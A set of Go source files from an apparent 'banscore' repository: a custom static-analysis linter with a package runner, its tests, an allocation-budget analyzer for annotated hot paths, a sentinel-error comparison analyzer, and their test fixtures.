					return nil, fmt.Errorf("analyzer %s on %s: %w", a.Name, pkg.Path, err)
				}
			}
		}
		if a.RunRepo != nil {
			pass := &analysis.RepoPass{
				Analyzer: a,
				Units:    units,
				Report: func(u *analysis.RepoUnit, d analysis.Diagnostic) {
					i, ok := unitIndex[u]
					if !ok {
						return
					}
					diags[i] = append(diags[i], d)
				},
			}
			if err := a.RunRepo(pass); err != nil {
				return nil, fmt.Errorf("analyzer %s: %w", a.Name, err)
			}
		}
	}

	for i, pkg := range pkgs {
		sup, directiveDiags := analysis.ParseDirectives(pkg.Fset, pkg.Files)
		diags[i] = sup.Filter(pkg.Fset, diags[i])
		diags[i] = append(diags[i], directiveDiags...)
		diags[i] = append(diags[i], sup.Stale(ran)...)
		analysis.SortDiagnostics(pkg.Fset, diags[i])
	}
	return diags, nil
}

// RunPackage applies every analyzer to the single package pkg — the
// repo-of-one view. Repo-level analyzers therefore check only
// intra-package properties here; whole-repo runs go through RunTree.
func RunPackage(pkg *loader.Package, analyzers []*analysis.Analyzer) ([]analysis.Diagnostic, error) {
	per, err := RunTree([]*loader.Package{pkg}, analyzers)
	if err != nil {
		return nil, err
	}
	return per[0], nil
}

// Finding is one diagnostic rendered against its file set — the
// position-resolved form drivers print and serialize.
type Finding struct {
	File     string `json:"file"`
	Line     int    `json:"line"`
	Column   int    `json:"column"`
	Analyzer string `json:"analyzer"`
	Message  string `json:"message"`
}

// Resolve renders diagnostics into findings.
func Resolve(pkg *loader.Package, diags []analysis.Diagnostic) []Finding {
	out := make([]Finding, 0, len(diags))
	for _, d := range diags {
		pos := pkg.Fset.Position(d.Pos)
		out = append(out, Finding{
			File:     pos.Filename,
			Line:     pos.Line,
			Column:   pos.Column,
			Analyzer: d.Analyzer,
			Message:  d.Message,
		})
	}
	return out
}

// String formats a finding the way go vet does.
func (f Finding) String() string {
	return fmt.Sprintf("%s:%d:%d: %s: %s", f.File, f.Line, f.Column, f.Analyzer, f.Message)
}
