// Package runner executes a set of analyzers over loaded packages and
// applies the //lint:allow suppression pass. It is the shared core of the
// cmd/banlint standalone driver, the go vet -vettool mode, and the
// analysistest harness, so all three agree exactly on what a finding is.
package runner

import (
	"fmt"

	"banscore/internal/lint/analysis"
	"banscore/internal/lint/loader"
)

// RunPackage applies every analyzer to pkg and returns the surviving
// diagnostics: analyzer findings not waived by a well-formed //lint:allow
// directive, plus one diagnostic per malformed directive. The result is
// sorted by position.
func RunPackage(pkg *loader.Package, analyzers []*analysis.Analyzer) ([]analysis.Diagnostic, error) {
	var diags []analysis.Diagnostic
	for _, a := range analyzers {
		pass := &analysis.Pass{
			Analyzer: a,
			Fset:     pkg.Fset,
			Files:    pkg.Files,
			PkgName:  pkg.Name,
			PkgPath:  pkg.Path,
			Report:   func(d analysis.Diagnostic) { diags = append(diags, d) },
		}
		if err := a.Run(pass); err != nil {
			return nil, fmt.Errorf("analyzer %s on %s: %w", a.Name, pkg.Path, err)
		}
	}
	sup, directiveDiags := analysis.ParseDirectives(pkg.Fset, pkg.Files)
	diags = sup.Filter(pkg.Fset, diags)
	diags = append(diags, directiveDiags...)
	analysis.SortDiagnostics(pkg.Fset, diags)
	return diags, nil
}

// Finding is one diagnostic rendered against its file set — the
// position-resolved form drivers print and serialize.
type Finding struct {
	File     string `json:"file"`
	Line     int    `json:"line"`
	Column   int    `json:"column"`
	Analyzer string `json:"analyzer"`
	Message  string `json:"message"`
}

// Resolve renders diagnostics into findings.
func Resolve(pkg *loader.Package, diags []analysis.Diagnostic) []Finding {
	out := make([]Finding, 0, len(diags))
	for _, d := range diags {
		pos := pkg.Fset.Position(d.Pos)
		out = append(out, Finding{
			File:     pos.Filename,
			Line:     pos.Line,
			Column:   pos.Column,
			Analyzer: d.Analyzer,
			Message:  d.Message,
		})
	}
	return out
}

// String formats a finding the way go vet does.
func (f Finding) String() string {
	return fmt.Sprintf("%s:%d:%d: %s: %s", f.File, f.Line, f.Column, f.Analyzer, f.Message)
}
