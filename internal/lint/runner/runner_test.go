package runner

import (
	"go/ast"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"banscore/internal/lint/analysis"
	"banscore/internal/lint/loader"
)

// writeFixture materializes a one-file package and loads it.
func writeFixture(t *testing.T, src string) *loader.Package {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.go"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	pkg, err := loader.LoadDir(dir, loader.Config{})
	if err != nil {
		t.Fatal(err)
	}
	return pkg
}

// callFlagger reports every call expression — a minimal analyzer that
// gives the pipeline something to suppress.
var callFlagger = &analysis.Analyzer{
	Name: "callflag",
	Doc:  "flag every call (test analyzer)",
	Run: func(pass *analysis.Pass) error {
		for _, f := range pass.Files {
			ast.Inspect(f, func(n ast.Node) bool {
				if c, ok := n.(*ast.CallExpr); ok {
					pass.Reportf(c.Pos(), "call site")
				}
				return true
			})
		}
		return nil
	},
}

func TestRunPackagePipeline(t *testing.T) {
	src := `package p

func f() {
	g() //lint:allow callflag(first call is sanctioned here)
	g()
	g() //lint:allow callflag
}
`
	pkg := writeFixture(t, src)
	diags, err := RunPackage(pkg, []*analysis.Analyzer{callFlagger})
	if err != nil {
		t.Fatalf("RunPackage: %v", err)
	}
	findings := Resolve(pkg, diags)
	// Line 4 is waived; line 5 survives; line 6's malformed directive
	// waives nothing, so both the finding and the directive report.
	var got []string
	for _, f := range findings {
		got = append(got, f.Analyzer)
	}
	want := map[int][]string{5: {"callflag"}, 6: {"callflag", "lintdirective"}}
	byLine := make(map[int][]string)
	for _, f := range findings {
		byLine[f.Line] = append(byLine[f.Line], f.Analyzer)
	}
	if len(byLine) != len(want) {
		t.Fatalf("findings on lines %v, want lines 5 and 6; all: %v", byLine, got)
	}
	for line, analyzers := range want {
		if len(byLine[line]) != len(analyzers) {
			t.Errorf("line %d: got %v, want %v", line, byLine[line], analyzers)
			continue
		}
		for i, a := range analyzers {
			if byLine[line][i] != a {
				t.Errorf("line %d[%d]: got %q, want %q", line, i, byLine[line][i], a)
			}
		}
	}
}

func TestFindingString(t *testing.T) {
	f := Finding{File: "a.go", Line: 3, Column: 7, Analyzer: "wallclock", Message: "m"}
	if got, want := f.String(), "a.go:3:7: wallclock: m"; got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}

// writeModule materializes a multi-package module and loads its tree.
func writeModule(t *testing.T, files map[string]string) []*loader.Package {
	t.Helper()
	root := t.TempDir()
	if err := os.WriteFile(filepath.Join(root, "go.mod"), []byte("module tm\n\ngo 1.22\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for rel, src := range files {
		path := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	pkgs, err := loader.LoadTree(root, loader.Config{})
	if err != nil {
		t.Fatalf("LoadTree: %v", err)
	}
	return pkgs
}

// crossCall is a repo-level analyzer that needs cross-package facts: it
// flags selector calls resolving to a function DECLARED in another unit.
// A per-package analyzer cannot see the remote declaration at all, so any
// finding from this analyzer proves RunTree handed it the whole tree.
var crossCall = &analysis.Analyzer{
	Name: "crosscall",
	Doc:  "flag cross-package calls (test analyzer)",
	RunRepo: func(pass *analysis.RepoPass) error {
		owner := map[string]*analysis.RepoUnit{}
		for _, u := range pass.Units {
			for _, f := range u.Files {
				for _, d := range f.Decls {
					if fn, ok := d.(*ast.FuncDecl); ok && fn.Recv == nil {
						owner[fn.Name.Name] = u
					}
				}
			}
		}
		for _, u := range pass.Units {
			for _, f := range u.Files {
				ast.Inspect(f, func(n ast.Node) bool {
					call, ok := n.(*ast.CallExpr)
					if !ok {
						return true
					}
					if sel, ok := call.Fun.(*ast.SelectorExpr); ok {
						if from, ok := owner[sel.Sel.Name]; ok && from != u {
							pass.Reportf(u, call.Pos(), "cross-package call to %s declared in %s", sel.Sel.Name, from.PkgPath)
						}
					}
					return true
				})
			}
		}
		return nil
	},
}

// TestRunTreeCrossPackageFacts runs a repo-level analyzer over a
// two-package module: the finding lands in the CALLING package (attributed
// through the RepoUnit), and a //lint:allow directive there suppresses it.
func TestRunTreeCrossPackageFacts(t *testing.T) {
	pkgs := writeModule(t, map[string]string{
		"a/a.go": "package a\n\nfunc Exported() {}\n",
		"b/b.go": `package b

import "tm/a"

func use() {
	a.Exported()
	a.Exported() //lint:allow crosscall(sanctioned second call)
}
`,
	})
	if len(pkgs) != 2 {
		t.Fatalf("loaded %d packages, want 2", len(pkgs))
	}
	perPkg, err := RunTree(pkgs, []*analysis.Analyzer{crossCall})
	if err != nil {
		t.Fatalf("RunTree: %v", err)
	}
	var all []Finding
	for i, pkg := range pkgs {
		all = append(all, Resolve(pkg, perPkg[i])...)
	}
	if len(all) != 1 {
		t.Fatalf("findings = %v, want exactly the unwaived call in b", all)
	}
	f := all[0]
	if filepath.Base(f.File) != "b.go" || f.Line != 6 || f.Analyzer != "crosscall" {
		t.Errorf("finding = %v, want crosscall at b.go:6", f)
	}
	if !strings.Contains(f.Message, "tm/a") {
		t.Errorf("message %q does not carry the remote unit's path", f.Message)
	}
}

// TestRunTreeStaleWaiver checks the waiver audit: a directive naming an
// analyzer that RAN but suppressed nothing on its line is itself reported.
func TestRunTreeStaleWaiver(t *testing.T) {
	pkgs := writeModule(t, map[string]string{
		"p/p.go": `package p

func f() int {
	return 1 //lint:allow callflag(nothing to waive here)
}
`,
	})
	perPkg, err := RunTree(pkgs, []*analysis.Analyzer{callFlagger})
	if err != nil {
		t.Fatalf("RunTree: %v", err)
	}
	var all []Finding
	for i, pkg := range pkgs {
		all = append(all, Resolve(pkg, perPkg[i])...)
	}
	if len(all) != 1 {
		t.Fatalf("findings = %v, want exactly one stale-waiver report", all)
	}
	f := all[0]
	if f.Analyzer != analysis.DirectiveAnalyzerName || !strings.Contains(f.Message, "stale") {
		t.Errorf("finding = %v, want a stale lintdirective report", f)
	}
	if f.Line != 4 {
		t.Errorf("stale report at line %d, want 4 (the waiver's line)", f.Line)
	}
}
