package runner

import (
	"go/ast"
	"os"
	"path/filepath"
	"testing"

	"banscore/internal/lint/analysis"
	"banscore/internal/lint/loader"
)

// writeFixture materializes a one-file package and loads it.
func writeFixture(t *testing.T, src string) *loader.Package {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.go"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	pkg, err := loader.LoadDir(dir, loader.Config{})
	if err != nil {
		t.Fatal(err)
	}
	return pkg
}

// callFlagger reports every call expression — a minimal analyzer that
// gives the pipeline something to suppress.
var callFlagger = &analysis.Analyzer{
	Name: "callflag",
	Doc:  "flag every call (test analyzer)",
	Run: func(pass *analysis.Pass) error {
		for _, f := range pass.Files {
			ast.Inspect(f, func(n ast.Node) bool {
				if c, ok := n.(*ast.CallExpr); ok {
					pass.Reportf(c.Pos(), "call site")
				}
				return true
			})
		}
		return nil
	},
}

func TestRunPackagePipeline(t *testing.T) {
	src := `package p

func f() {
	g() //lint:allow callflag(first call is sanctioned here)
	g()
	g() //lint:allow callflag
}
`
	pkg := writeFixture(t, src)
	diags, err := RunPackage(pkg, []*analysis.Analyzer{callFlagger})
	if err != nil {
		t.Fatalf("RunPackage: %v", err)
	}
	findings := Resolve(pkg, diags)
	// Line 4 is waived; line 5 survives; line 6's malformed directive
	// waives nothing, so both the finding and the directive report.
	var got []string
	for _, f := range findings {
		got = append(got, f.Analyzer)
	}
	want := map[int][]string{5: {"callflag"}, 6: {"callflag", "lintdirective"}}
	byLine := make(map[int][]string)
	for _, f := range findings {
		byLine[f.Line] = append(byLine[f.Line], f.Analyzer)
	}
	if len(byLine) != len(want) {
		t.Fatalf("findings on lines %v, want lines 5 and 6; all: %v", byLine, got)
	}
	for line, analyzers := range want {
		if len(byLine[line]) != len(analyzers) {
			t.Errorf("line %d: got %v, want %v", line, byLine[line], analyzers)
			continue
		}
		for i, a := range analyzers {
			if byLine[line][i] != a {
				t.Errorf("line %d[%d]: got %q, want %q", line, i, byLine[line][i], a)
			}
		}
	}
}

func TestFindingString(t *testing.T) {
	f := Finding{File: "a.go", Line: 3, Column: 7, Analyzer: "wallclock", Message: "m"}
	if got, want := f.String(), "a.go:3:7: wallclock: m"; got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}
