// Package hot exercises the allocbudget analyzer: annotated functions
// are checked, unannotated ones are not, and error-path blocks are cold.
package hot

import "fmt"

type ring struct {
	buf  []byte
	head int
}

// ingest is the seeded allocating hotpath: every banned construct fires.
//
//banlint:hotpath
func (r *ring) ingest(b []byte) error {
	scratch := make([]byte, 64) // want `make on //banlint:hotpath function ingest`
	_ = scratch
	m := map[string]int{} // want `map literal on //banlint:hotpath function ingest`
	_ = m
	s := []int{1, 2, 3} // want `slice literal on //banlint:hotpath function ingest`
	_ = s
	p := &ring{} // want `&composite literal on //banlint:hotpath function ingest`
	_ = p
	q := new(ring) // want `new on //banlint:hotpath function ingest`
	_ = q
	go r.drain() // want `go statement on //banlint:hotpath function ingest`
	f := func() {} // want `function literal on //banlint:hotpath function ingest`
	_ = f
	name := string(b) // want `string conversion on //banlint:hotpath function ingest`
	_ = name
	bs := []byte("x") // want `slice conversion on //banlint:hotpath function ingest`
	_ = bs
	fmt.Println(r.head) // want `fmt.Println on //banlint:hotpath function ingest`
	return nil
}

// clean is annotated and allocation-free in the hot region; the fmt call
// sits on the error path, whose block ends in return.
//
//banlint:hotpath
func (r *ring) clean(b []byte) error {
	if len(b) > len(r.buf) {
		return fmt.Errorf("payload %d exceeds ring %d", len(b), len(r.buf))
	}
	n := copy(r.buf[r.head:], b)
	r.head += n
	v := ring{head: n} // value struct literal: stack, allowed
	_ = v
	return nil
}

// unannotated allocates freely; no annotation, no findings.
func (r *ring) unannotated() {
	_ = make([]byte, 1)
	_ = fmt.Sprintf("%d", r.head)
}

func (r *ring) drain() {}
