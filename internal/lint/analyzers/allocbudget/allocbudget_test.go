package allocbudget

import (
	"path/filepath"
	"testing"

	"banscore/internal/lint/analysistest"
)

func TestAllocBudget(t *testing.T) {
	analysistest.Run(t, filepath.Join("testdata", "hot"), Analyzer)
}
