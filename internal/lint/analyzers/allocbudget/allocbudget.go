// Package allocbudget defines the banlint analyzer that keeps annotated
// hot paths free of allocating constructs.
//
// The BM-DoS experiments drive the wire codec, the tracker's score path,
// the observer's ingest, and the detection window at flood rates; their
// throughput numbers (EXPERIMENTS.md) assume those paths stay off the
// allocator — pooled buffers in, fixed scratch, value structs through
// registers. An innocent fmt.Sprintf or a closure introduced on one of
// them moves the benchmark and, worse, hands the attacker a per-message
// allocation to amplify.
//
// A function opts in with the annotation, placed in its doc comment:
//
//	//banlint:hotpath
//	func (c *Codec) DecodeMessage(...) ...
//
// Inside an annotated function the analyzer reports the constructs that
// always (or almost always) allocate: make, new, map and slice literals,
// pointer composite literals (&T{}), function literals, go statements,
// fmt.* calls, and string/[]byte conversions. Plain value struct
// literals stay legal — they live in registers or on the stack, and the
// escape-analysis half of the budget (cmd/allocgate, `make alloc-gate`,
// which diffs go build -gcflags=-m output against ALLOC_BUDGET.json)
// catches the ones the compiler decides to heap-allocate anyway. The two
// layers are complementary: this analyzer is stable, syntactic, and
// position-precise; the gate is exact about what actually escapes but
// tied to the compiler's diagnostics.
//
// Error paths are exempt: any block (other than the function body
// itself) whose final statement is a return or a panic is cold — the
// flood shape never takes it repeatedly — so wrapping an error with
// fmt.Errorf before returning stays idiomatic.
package allocbudget

import (
	"go/ast"
	"strings"

	"banscore/internal/lint/analysis"
)

// HotpathDirective is the doc-comment annotation that opts a function
// into the allocation budget. cmd/allocgate scans for the same marker.
const HotpathDirective = "//banlint:hotpath"

// Analyzer is the allocbudget check.
var Analyzer = &analysis.Analyzer{
	Name: "allocbudget",
	Doc: "functions annotated //banlint:hotpath must not allocate\n\n" +
		"Reports make/new, map and slice literals, &T{} literals, func " +
		"literals, go statements, fmt.* calls, and string/[]byte conversions " +
		"inside annotated functions, except on error paths (blocks ending in " +
		"return or panic). Complemented by `make alloc-gate`, which diffs the " +
		"compiler's escape diagnostics against ALLOC_BUDGET.json.",
	Run: run,
}

func run(pass *analysis.Pass) error {
	for _, file := range pass.Files {
		fmtName := analysis.ImportName(file, "fmt")
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil || !IsHotpath(fn) {
				continue
			}
			checkFunc(pass, fn, fmtName)
		}
	}
	return nil
}

// IsHotpath reports whether the function carries the hotpath annotation
// in its doc comment.
func IsHotpath(fn *ast.FuncDecl) bool {
	if fn.Doc == nil {
		return false
	}
	for _, c := range fn.Doc.List {
		if IsHotpathComment(c.Text) {
			return true
		}
	}
	return false
}

// IsHotpathComment reports whether one comment line is the hotpath
// directive (optionally followed by whitespace and an explanation).
func IsHotpathComment(text string) bool {
	if !strings.HasPrefix(text, HotpathDirective) {
		return false
	}
	rest := text[len(HotpathDirective):]
	return rest == "" || rest[0] == ' ' || rest[0] == '\t'
}

func checkFunc(pass *analysis.Pass, fn *ast.FuncDecl, fmtName string) {
	cold := coldRanges(fn)
	isCold := func(n ast.Node) bool {
		for _, r := range cold {
			if int(n.Pos()) >= r[0] && int(n.End()) <= r[1] {
				return true
			}
		}
		return false
	}
	name := fn.Name.Name
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		if n == nil {
			return false
		}
		if isCold(n) {
			return false
		}
		switch n := n.(type) {
		case *ast.GoStmt:
			pass.Reportf(n.Pos(), "go statement on //banlint:hotpath function %s allocates a goroutine per call; hoist the worker out of the hot path", name)
		case *ast.FuncLit:
			pass.Reportf(n.Pos(), "function literal on //banlint:hotpath function %s allocates a closure per call; hoist it to a named function or method value", name)
			return false // don't descend: the closure body runs elsewhere
		case *ast.CompositeLit:
			switch n.Type.(type) {
			case *ast.MapType:
				pass.Reportf(n.Pos(), "map literal on //banlint:hotpath function %s allocates per call; preallocate it outside the hot path", name)
			case *ast.ArrayType:
				if n.Type.(*ast.ArrayType).Len == nil {
					pass.Reportf(n.Pos(), "slice literal on //banlint:hotpath function %s allocates per call; preallocate it outside the hot path", name)
				}
			}
		case *ast.UnaryExpr:
			if n.Op.String() == "&" {
				if _, isLit := n.X.(*ast.CompositeLit); isLit {
					pass.Reportf(n.Pos(), "&composite literal on //banlint:hotpath function %s heap-allocates per call; reuse a pooled or scratch value", name)
				}
			}
		case *ast.CallExpr:
			checkCall(pass, n, name, fmtName)
		}
		return true
	})
}

func checkCall(pass *analysis.Pass, call *ast.CallExpr, name, fmtName string) {
	switch fun := call.Fun.(type) {
	case *ast.Ident:
		switch fun.Name {
		case "make":
			pass.Reportf(call.Pos(), "make on //banlint:hotpath function %s allocates per call; preallocate or pool the value", name)
		case "new":
			pass.Reportf(call.Pos(), "new on //banlint:hotpath function %s allocates per call; preallocate or pool the value", name)
		case "string":
			pass.Reportf(call.Pos(), "string conversion on //banlint:hotpath function %s copies and allocates per call; keep the bytes", name)
		}
	case *ast.ArrayType:
		// []byte(s) / []rune(s) conversion.
		if fun.Len == nil {
			pass.Reportf(call.Pos(), "slice conversion on //banlint:hotpath function %s copies and allocates per call; keep the original representation", name)
		}
	case *ast.SelectorExpr:
		if base, ok := fun.X.(*ast.Ident); ok && fmtName != "" && base.Name == fmtName {
			pass.Reportf(call.Pos(), "%s.%s on //banlint:hotpath function %s boxes arguments and allocates per call; move formatting to the cold path", fmtName, fun.Sel.Name, name)
		}
	}
}

// coldRanges collects the position spans of error-path blocks: any block
// or case/comm clause body (other than the function body itself) whose
// final statement is a return or a panic call. Statements in those spans
// are exempt — a path that ends the function is not the flood path.
func coldRanges(fn *ast.FuncDecl) [][2]int {
	var out [][2]int
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.BlockStmt:
			if n != fn.Body && endsColdly(n.List) {
				out = append(out, [2]int{int(n.Pos()), int(n.End())})
			}
		case *ast.CaseClause:
			if endsColdly(n.Body) {
				out = append(out, [2]int{int(n.Pos()), int(n.End())})
			}
		case *ast.CommClause:
			if endsColdly(n.Body) {
				out = append(out, [2]int{int(n.Pos()), int(n.End())})
			}
		}
		return true
	})
	return out
}

func endsColdly(stmts []ast.Stmt) bool {
	if len(stmts) == 0 {
		return false
	}
	switch last := stmts[len(stmts)-1].(type) {
	case *ast.ReturnStmt:
		return true
	case *ast.ExprStmt:
		if call, ok := last.X.(*ast.CallExpr); ok {
			if id, ok := call.Fun.(*ast.Ident); ok && id.Name == "panic" {
				return true
			}
		}
	}
	return false
}
