// Package sentinel is an errsentinel fixture. The analyzer is unscoped,
// so the directory name carries no meaning.
package sentinel

import (
	"errors"
	"fmt"
	"strings"
)

var (
	ErrFull    = errors.New("queue full")
	errRefused = errors.New("refused")
)

// ErrCodeBad is an error *code* (compare-by-value enum), not a sentinel
// error value: package-local consts named Err* are exempt.
const ErrCodeBad = 7

// direct comparisons against sentinels in both orientations and with both
// operators.
func direct(err error, wrapErr error) {
	if err == ErrFull { // want `== err against sentinel ErrFull misses wrapped errors; use errors\.Is`
		return
	}
	if ErrFull == wrapErr { // want `== wrapErr against sentinel ErrFull misses wrapped errors; use errors\.Is`
		return
	}
	if err != errRefused { // want `!= err against sentinel errRefused misses wrapped errors; use errors\.Is`
		return
	}
	if err == pkg.ErrRemote { // want `== err against sentinel pkg\.ErrRemote misses wrapped errors; use errors\.Is`
		return
	}
}

// idioms that must stay silent: nil checks, errors.Is/As, error codes,
// and comparisons whose other operand is clearly not an error.
func fine(err error, myErrCode int, state int) {
	if err == nil || err != nil {
		return
	}
	if errors.Is(err, ErrFull) {
		return
	}
	if myErrCode == ErrCodeBad { // local const Err* is a code, not a sentinel
		return
	}
	if state == stateErrored { // other operand is not error-ish... but state isn't either
		return
	}
}

// textual matching on error messages.
func text(err error) {
	if err.Error() == "queue full" { // want `comparing err\.Error\(\) text breaks on any message edit; match the sentinel with errors\.Is`
		return
	}
	if "refused" != err.Error() { // want `comparing err\.Error\(\) text breaks on any message edit`
		return
	}
	if strings.Contains(err.Error(), "full") { // want `matching err\.Error\(\) text with strings\.Contains breaks on any message edit; use errors\.Is \(or errors\.As for typed errors\)`
		return
	}
	if strings.HasPrefix(err.Error(), "queue") { // want `matching err\.Error\(\) text with strings\.HasPrefix breaks on any message edit`
		return
	}
	// Plain string work not involving error text stays silent.
	if strings.Contains(fmtHost("x"), "full") {
		return
	}
	_ = fmt.Sprintf("%v", err)
}

// suppressed proves the waiver path: one finding waived, the identical
// next one reported.
func suppressed(err error) {
	//lint:allow errsentinel(fixture: unwrapped by construction on this path)
	if err == ErrFull {
		return
	}
	if err == ErrFull { // want `== err against sentinel ErrFull misses wrapped errors`
		return
	}
}

// malformed directives report themselves and waive nothing.
func malformed(err error) {
	if err == ErrFull { //lint:allow // want `== err against sentinel ErrFull misses wrapped errors` `malformed lint:allow directive: want //lint:allow <analyzer>\(<reason>\) with a non-empty reason`
		return
	}
}
