// Package errsentinel defines the banlint analyzer that forbids direct
// comparison against sentinel error values.
//
// The repository's error taxonomy is built on wrapped sentinels:
// peer.ErrSendQueueFull, node.ErrOutboundSlotsFull, simnet's injected
// fault errors — all are classified by callers (the slot keeper's retry
// policy, the chaos suite's assertions) and almost always arrive wrapped
// by fmt.Errorf("%w", ...). A direct == or != against the sentinel
// silently stops matching the moment any layer adds context, which is
// exactly how the connection manager once misclassified a wrapped
// ErrAlreadyConnected as a transient failure and kept redialing a filled
// slot. errors.Is is the only comparison that survives wrapping, so this
// analyzer reports:
//
//   - x == pkg.ErrFoo / x != ErrFoo, when the other operand looks like an
//     error value (its name contains "err") and the sentinel is not a
//     package-local constant (constant Err* values are error *codes* —
//     e.g. blockchain.ErrorCode — and compare fine with ==),
//   - err.Error() == "...", err.Error() != "...", and
//     strings.Contains/HasPrefix/HasSuffix(err.Error(), ...): string
//     matching on error text, which breaks on any message edit.
//
// Comparisons with nil are untouched (err == nil is the idiom).
package errsentinel

import (
	"go/ast"
	"go/token"
	"strings"

	"banscore/internal/lint/analysis"
)

// Analyzer is the errsentinel check.
var Analyzer = &analysis.Analyzer{
	Name: "errsentinel",
	Doc: "forbid ==/!= against sentinel errors and string matching on error text\n\n" +
		"Sentinel errors in this repository arrive wrapped; only errors.Is " +
		"matches them reliably. Error-text comparison is reported in all forms.",
	Run: run,
}

// stringMatchFuncs are the strings-package predicates that, applied to
// err.Error(), amount to error-text matching.
var stringMatchFuncs = map[string]bool{
	"Contains":  true,
	"HasPrefix": true,
	"HasSuffix": true,
	"EqualFold": true,
}

func run(pass *analysis.Pass) error {
	consts := packageConsts(pass.Files)
	for _, file := range pass.Files {
		stringsName := analysis.ImportName(file, "strings")
		ast.Inspect(file, func(n ast.Node) bool {
			switch e := n.(type) {
			case *ast.BinaryExpr:
				checkComparison(pass, consts, e)
			case *ast.CallExpr:
				checkStringsCall(pass, stringsName, e)
			}
			return true
		})
	}
	return nil
}

// checkComparison reports sentinel and error-text comparisons.
func checkComparison(pass *analysis.Pass, consts map[string]bool, e *ast.BinaryExpr) {
	if e.Op != token.EQL && e.Op != token.NEQ {
		return
	}
	if isNil(e.X) || isNil(e.Y) {
		return
	}

	// err.Error() == "..." in either orientation.
	for _, pair := range [2][2]ast.Expr{{e.X, e.Y}, {e.Y, e.X}} {
		if isErrorTextCall(pair[0]) && isStringLit(pair[1]) {
			pass.Reportf(e.Pos(), "comparing err.Error() text breaks on any message edit; match the sentinel with errors.Is")
			return
		}
	}

	// sentinel == error-ish value in either orientation.
	for _, pair := range [2][2]ast.Expr{{e.X, e.Y}, {e.Y, e.X}} {
		name, local := sentinelName(pair[0])
		if name == "" {
			continue
		}
		if local && consts[name] {
			// A package-local constant named Err* is an error code
			// (compare-by-value enum), not a sentinel error value.
			continue
		}
		if !looksLikeErrorValue(pair[1]) {
			continue
		}
		op := "=="
		if e.Op == token.NEQ {
			op = "!="
		}
		pass.Reportf(e.Pos(), "%s %s against sentinel %s misses wrapped errors; use errors.Is", op, describe(pair[1]), name)
		return
	}
}

// checkStringsCall reports strings.Contains(err.Error(), ...) and friends.
func checkStringsCall(pass *analysis.Pass, stringsName string, call *ast.CallExpr) {
	if stringsName == "" {
		return
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || !stringMatchFuncs[sel.Sel.Name] {
		return
	}
	base, ok := sel.X.(*ast.Ident)
	if !ok || base.Name != stringsName {
		return
	}
	for _, arg := range call.Args {
		if isErrorTextCall(arg) {
			pass.Reportf(call.Pos(), "matching err.Error() text with strings.%s breaks on any message edit; use errors.Is (or errors.As for typed errors)", sel.Sel.Name)
			return
		}
	}
}

// sentinelName recognizes an Err-prefixed identifier or selector and
// returns its final name, plus whether it is package-local (a bare ident).
func sentinelName(e ast.Expr) (name string, local bool) {
	switch v := e.(type) {
	case *ast.Ident:
		if isErrName(v.Name) {
			return v.Name, true
		}
	case *ast.SelectorExpr:
		if isErrName(v.Sel.Name) {
			if base, ok := v.X.(*ast.Ident); ok {
				return base.Name + "." + v.Sel.Name, false
			}
		}
	}
	return "", false
}

// isErrName reports whether name follows the Err sentinel convention:
// "Err" or "err" followed by an upper-case letter ("ErrFoo", "errTimeout"),
// excluding the method name "Error".
func isErrName(name string) bool {
	if len(name) < 4 {
		return false
	}
	if name[:3] != "Err" && name[:3] != "err" {
		return false
	}
	c := name[3]
	return c >= 'A' && c <= 'Z' && name != "Error"
}

// looksLikeErrorValue reports whether e plausibly holds an error: an
// identifier or selector whose final name contains "err".
func looksLikeErrorValue(e ast.Expr) bool {
	switch v := e.(type) {
	case *ast.Ident:
		return strings.Contains(strings.ToLower(v.Name), "err")
	case *ast.SelectorExpr:
		return strings.Contains(strings.ToLower(v.Sel.Name), "err")
	}
	return false
}

// isErrorTextCall matches x.Error() where x looks like an error value.
func isErrorTextCall(e ast.Expr) bool {
	call, ok := e.(*ast.CallExpr)
	if !ok || len(call.Args) != 0 {
		return false
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != "Error" {
		return false
	}
	return looksLikeErrorValue(sel.X) || isCall(sel.X)
}

func isCall(e ast.Expr) bool {
	_, ok := e.(*ast.CallExpr)
	return ok
}

func isNil(e ast.Expr) bool {
	id, ok := e.(*ast.Ident)
	return ok && id.Name == "nil"
}

func isStringLit(e ast.Expr) bool {
	lit, ok := e.(*ast.BasicLit)
	return ok && lit.Kind == token.STRING
}

func describe(e ast.Expr) string {
	switch v := e.(type) {
	case *ast.Ident:
		return v.Name
	case *ast.SelectorExpr:
		return v.Sel.Name
	}
	return "value"
}

// packageConsts collects every constant name declared anywhere in the
// package (top-level or function-local) so Err-prefixed error *codes* can
// be told apart from sentinel error *values*.
func packageConsts(files []*ast.File) map[string]bool {
	consts := make(map[string]bool)
	for _, f := range files {
		ast.Inspect(f, func(n ast.Node) bool {
			decl, ok := n.(*ast.GenDecl)
			if !ok || decl.Tok != token.CONST {
				return true
			}
			for _, spec := range decl.Specs {
				if vs, ok := spec.(*ast.ValueSpec); ok {
					for _, name := range vs.Names {
						consts[name.Name] = true
					}
				}
			}
			return true
		})
	}
	return consts
}
