package errsentinel_test

import (
	"testing"

	"banscore/internal/lint/analysistest"
	"banscore/internal/lint/analyzers/errsentinel"
)

func TestSentinelComparisons(t *testing.T) {
	analysistest.Run(t, "testdata/sentinel", errsentinel.Analyzer)
}
