// Package core mirrors the tracker surface for evidenceflow fixtures.
package core

type PeerID string

type RuleID int

type Result struct {
	Delta   int
	Applied bool
}

type MisbehaviorContext struct {
	Command       string
	PayloadDigest uint32
	PayloadLen    int
}

type Tracker struct{}

